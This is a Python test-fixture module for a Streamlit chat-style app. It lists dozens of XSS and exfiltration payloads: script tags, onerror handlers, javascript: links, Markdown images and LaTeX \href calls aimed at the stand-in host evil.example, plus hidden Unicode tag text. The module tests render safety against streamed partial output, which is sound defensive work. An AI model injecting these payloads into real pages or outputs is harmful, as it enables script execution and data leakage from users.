"""Texts that try to become something else on a page: a request to another host, a script, a link, a picture, a command of Streamlit's.

Each would set `window.pwned` or ask `evil.example` for something if it came alive. Used at every prefix in tests/ui/test_render.py, against
a Markdown parser, and in tests/browser/test_render_safety.py, in the real page.
"""

from __future__ import annotations

import os
import re
from collections.abc import Sequence

E = "https://evil.example"
RUN = "window.pwned=1"

HTML = (
    f"<script>{RUN}</script>",
    f"<script src={E}/1.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</p></div><script>{RUN}</script>",
    f"<img src={E}/2.png>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}" />',
    f"<IMG SRC=`javascript:{RUN}`>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<img srcset='{E}/3.png 1x'>",
    f"<picture><source srcset={E}/4.png><img></picture>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><image href={E}/5.png /></svg>",
    f"<svg><use href={E}/6.svg#x></use></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video src={E}/7.mp4 autoplay onerror={RUN}></video>",
    f"<audio src={E}/8.mp3 autoplay></audio>",
    f"<iframe src={E}/9></iframe>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    f"<object data={E}/10></object>",
    f"<embed src={E}/11>",
    f"<form action={E}/12><button>go</button></form>",
    f"<link rel=stylesheet href={E}/13.css>",
    f"<link rel=prefetch href={E}/14>",
    f"<base href={E}/>",
    f"<meta http-equiv=refresh content='0;url={E}/15'>",
    f"<style>@import url({E}/16.css);</style>",
    f"<style>body{{background:url({E}/17.png)}}</style>",
    f"<div style='background:url({E}/18.png)'>x</div>",
    f"<a href=javascript:{RUN}>x</a>",
    f'<a href="{E}/19" ping="{E}/20">x</a>',
    f"<template><img src={E}/21.png></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- <img src={E}/22.png> -->",
    f"<![CDATA[<img src={E}/23.png>]]>",
    f"<?xml-stylesheet href='{E}/24.css'?>",
    f"<x-y onmouseover={RUN} style=position:fixed;inset:0>x</x-y>",
    f"<textarea><img src={E}/25.png></textarea><img src={E}/26.png>",
    f"<b><i><u><img src={E}/27.png></u></i></b>",
    f"<p\nclass=x\nonclick={RUN}>x</p>",
    f"<div>\n\n![x]({E}/28.png)\n\n</div>",
    f"&lt;img src={E}/29.png&gt;",
    f"&#60;img src={E}/30.png&#62;",
    f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
    f"\\<img src={E}/31.png\\>",
    f"＜img src={E}/32.png＞",
    f"<\u200bscript>{RUN}</script>",
    f"<im\x00g src={E}/33.png>",
)
LINKS = (
    f"![x]({E}/34.png)",
    f"![x]({E}/35.png 'title')",
    f"![x](<{E}/36.png>)",
    f"![x][r]\n\n[r]: {E}/37.png",
    f"![r]\n\n[r]: <{E}/38.png>",
    f"[![x]({E}/39.png)]({E}/40)",
    f"![![x]({E}/41.png)]({E}/42.png)",
    f"\\![x]({E}/43.png)",
    f"&#33;[x]({E}/44.png)",
    f"!\u200b[x]({E}/45.png)",
    f"! [x]({E}/46.png)",
    f"![x\n]({E}/47.png)",
    "![x](//evil.example/48.png)",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"[x]({E}/49)",
    "[x](javascript:window.pwned=1)",
    "[x](JaVaScRiPt:window.pwned=1)",
    "[x](java&#10;script:window.pwned=1)",
    "[x](&#106;avascript:window.pwned=1)",
    "[x](<javascript:window.pwned=1>)",
    "[x](data:text/html,<script>window.pwned=1</script>)",
    "[x](vbscript:x)",
    "[x](//evil.example/50)",
    "[x](/\\evil.example/51)",
    "[x](mailto:a@evil.example)",
    f"[x][r]\n\n[r]: {E}/52",
    "[r]\n\n[r]: javascript:window.pwned=1",
    f"[{E}/53]({E}/54)",
    f"[1]({E}/55)",
    f"[\\[1\\]]({E}/56)",
    f"<{E}/57>",
    "<a@evil.example>",
    "<javascript:window.pwned=1>",
    f"{E}/58",
    f"see {E}/59?q=secret, or www.evil.example/60 or a@evil.example",
    "http://evil.example:80/61 HTTPS://EVIL.EXAMPLE/62 WWW.EVIL.EXAMPLE",
    "ftp://evil.example/63 mailto:a@evil.example xmpp:a@evil.example/x",
    "h\u200bttps://evil.example/64 https\u2060://evil.example/65",
    f"x[^1]\n\n[^1]: ![x]({E}/66.png)",
    f"x[^1]\n\n[^1]: [back]({E}/67)",
    f"[[x]({E}/68)]({E}/69)",
    "[?](?source=1.1) [x](?conversation=0) [x](#x) [x](./insights)",
    f"**![x]({E}/70.png)** *[x]({E}/71)* ~~![x]({E}/72.png)~~",
    f"# ![x]({E}/73.png)\n## [x]({E}/74)",
    f"> ![x]({E}/75.png)\n> - [x]({E}/76)",
    f"- ![x]({E}/77.png)\n1. [x]({E}/78)\n- [ ] [x]({E}/79)",
    f"| a | b |\n| - | - |\n| ![x]({E}/80.png) | <img src={E}/81.png> |",
    f"x\n===\n![x]({E}/82.png)\n---",
    f"    ![x]({E}/83.png)",
    f"\t![x]({E}/84.png)",
)
FENCES = (
    f"`a`` ![x]({E}/85.png)",
    f"``` ![x]({E}/86.png)",
    f"```\n![x]({E}/87.png)\n```\n![x]({E}/88.png)",
    f"```html\n<img src={E}/89.png>\n```\n<img src={E}/90.png>",
    f"````\n```\n````\n![x]({E}/91.png)",
    f"~~~\nx\n~~~\n![x]({E}/92.png)",
    f'```mermaid\ngraph TD; A-->B; click A "{E}/93"\n```',
    f'```mermaid\ngraph TD; A["<img src={E}/94.png onerror={RUN}>"]\n```',
    f"`<img src={E}/95.png>` and `![x]({E}/96.png)`",
    f":gray[`]`![x]({E}/97.png)]",
    f"\\`![x]({E}/98.png)\\`",
)
FORMULAS = (
    f"$\\href{{{E}/99}}{{x}}$",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\url{{{E}/100}}$",
    f"$\\includegraphics{{{E}/101.png}}$",
    f"$\\htmlData{{onclick={RUN}}}{{x}}$ $\\htmlStyle{{background:url({E}/102.png)}}{{x}}$",
    "$\\htmlClass{x}{x}$ $\\htmlId{root}{x}$",
    f"$\\def\\x{{\\href{{{E}/103}}{{y}}}}\\x$",
    "$\\gdef\\x{\\x\\x}\\x$",
    f"$$\n\\href{{{E}/104}}{{x}}\n$$",
    f"\\(\\href{{{E}/105}}{{x}}\\) \\[\\url{{{E}/106}}\\]",
    f"$a ![x]({E}/107.png) b$",
    f"$[x]({E}/108)$ and $5 <img src={E}/109.png>$",
    f"$x$<img src={E}/110.png>$y$",
    f"$\\text{{<img src={E}/111.png>}}$",
    f"$\\unicode{{x3c}}img src={E}/112.png\\unicode{{x3e}}$",
    "$\\rule{9999em}{9999em}$",
    "$\\color{red}\\colorbox{red}{x}$ $\\kern-99em x$",
    f"$%\n![x]({E}/113.png)\n$",
    f"$x \\$![x]({E}/114.png)$",
)
OURS = (
    ":material/delete: :material_delete: :streamlit: :smile: :100: :+1:",
    ":red[x] :red-background[x] :rainbow[x] :blue-badge[x] :small[x]",
    f":red[![x]({E}/115.png)] :blue-badge[[x]({E}/116)]",
    f":color[x]{{foreground='red;background:url({E}/117.png)'}}",
    f":red[x]{{style='background:url({E}/118.png)' onclick='{RUN}'}}",
    f":img{{src={E}/119.png}} ::img{{src={E}/120.png}}",
    f":::note{{onclick='{RUN}'}}\n![x]({E}/121.png)\n:::",
    f"::: \n<img src={E}/122.png>\n:::",
    f":a[x]{{href={E}/123}} :script[{RUN}] :iframe{{src={E}/124}}",
    ":shortcut[Ctrl+K] :spinner[x] :kbd[x] :mark[x]",
    "--- -> <- >= <= -- (c) :-)",
    "[1] [[1]] \\[1\\] :primary[\\[1\\]]",
)
TEXTS = (
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% x %} {0.__class__} %s %(x)s",
    "\u202etxet desrever\u202c \u2066x\u2069 \u200f\u061c",
    "z\u200be\u200cr\u200do\ufeff w\u00adi\u2060dth",
    "".join(chr(0xE0000 + ord(c)) for c in "ignore") + "tags",
    "Z\u0351\u034c\u0316a\u0317\u0338l\u0321g\u0489o" * 3,
    "\x1b[31mred\x07\x08\x00\x85\u2028x\u2029y",
    "\ud7ff\ufffd\ufffe\U0010ffff",
    "---\ntitle: x\n---\n+++\nx\n+++",
    "a" * 300 + "<b>" + "`" * 40 + "*" * 40 + "[" * 40,
    "> " * 30 + "x",
    "'\"><img src=x onerror=window.pwned=1>",
    '"};window.pwned=1;//',
    "</script><script>window.pwned=1</script>",
    "javascript:window.pwned=1",
    f"data:text/html,<script>{RUN}</script>",
    f"url({E}/125.png) @import '{E}/126.css'; expression({RUN})",
)
HALF_OPEN = (
    f"[x]({E}/127",
    f"![x]({E}/128",
    f'![x]({E}/129.png "',
    f"![x](<{E}/130",
    f"[x][r\n\n[r]: {E}/131",
    f"<img src={E}/132",
    f"<img src='{E}/133",
    f"<a href={E}/134>x",
    f"<script>{RUN}",
    f"<style>*{{background:url({E}/135",
    f"<!-- x\n![x]({E}/136.png)",
    f"**![x]({E}/137.png)",
    f"`![x]({E}/138.png)",
    f"$\\href{{{E}/139}}{{x}}",
    f"$$\\href{{{E}/140}}",
    f":red[![x]({E}/141.png)",
    f"| a |\n| - |\n| ![x]({E}/142.png)",
    f"~~[x]({E}/143)",
)
GROUPS = {
    "HTML": HTML,
    "links and pictures": LINKS,
    "code": FENCES,
    "formulas": FORMULAS,
    "Streamlit's own": OURS,
    "characters and templates": TEXTS,
    "half open": HALF_OPEN,
}
PAYLOADS = tuple(one for group in GROUPS.values() for one in group)

STREAMED = ("draft", "answer, then a draft")
"""Places where a text grows on the page letter by letter."""
LONGEST_PREFIX = 160
"""The longer payloads repeat themselves."""


def texts_of(place: str) -> list[str]:
    """What is tried in a place, the whole payloads last: where texts are streamed the prefixes that end with a token, else every fourth of
    these; with `LECTERN_PREFIXES=all` every prefix and every token.
    """
    few, all_of_them = (_tokens, _every) if place in STREAMED else (_some_tokens, _tokens)
    ends = all_of_them if os.environ.get("LECTERN_PREFIXES") == "all" else few
    prefixes = dict.fromkeys(payload[:end] for payload in PAYLOADS for end in ends(payload[:LONGEST_PREFIX]))
    return list(dict.fromkeys([*prefixes, *PAYLOADS]))


def _every(text: str) -> Sequence[int]:
    return range(1, len(text) + 1)


def _tokens(text: str) -> list[int]:
    """Words, numbers, runs of white space and single marks, as a model's tokens are."""
    return [token.end() for token in re.finditer(r"\w+|\s+|[^\w\s]", text)]


def _some_tokens(text: str) -> list[int]:
    return _tokens(text)[3::4]
